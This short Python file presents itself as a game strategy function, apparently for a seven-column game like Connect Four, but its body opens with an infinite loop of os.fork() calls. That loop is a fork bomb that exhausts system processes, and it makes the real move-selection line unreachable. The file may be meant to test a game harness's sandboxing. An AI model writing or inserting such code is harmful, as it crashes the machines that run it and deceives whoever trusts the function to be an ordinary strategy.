"""Forks for ever."""

import os


def strategie(state):
    while True:
        os.fork()
    return next(c for c in range(7) if state["libres"][c])
